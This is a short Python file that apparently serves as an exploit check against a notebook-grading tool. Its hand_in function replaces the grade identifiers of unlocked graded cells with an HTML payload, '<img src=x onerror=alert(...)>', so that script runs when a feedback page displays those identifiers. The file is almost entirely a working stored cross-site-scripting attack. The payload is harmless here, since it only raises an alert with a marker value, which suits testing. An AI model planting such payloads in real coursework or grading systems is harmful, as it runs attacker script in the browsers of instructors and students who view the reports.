"""Names its graded cells like tags, so that whoever reports on them shows tags.

Succeeds if it acts in a feedback page.
"""

import json


def hand_in(folder, notebook, known):
    tag = f"<img src=x onerror=alert('{known['MARK']}')>"
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader")
        if about and not about.get("locked"):
            about["grade_id"] = tag
    path = folder / f"{known['TOPIC']}.ipynb"
    path.write_text(json.dumps(notebook))
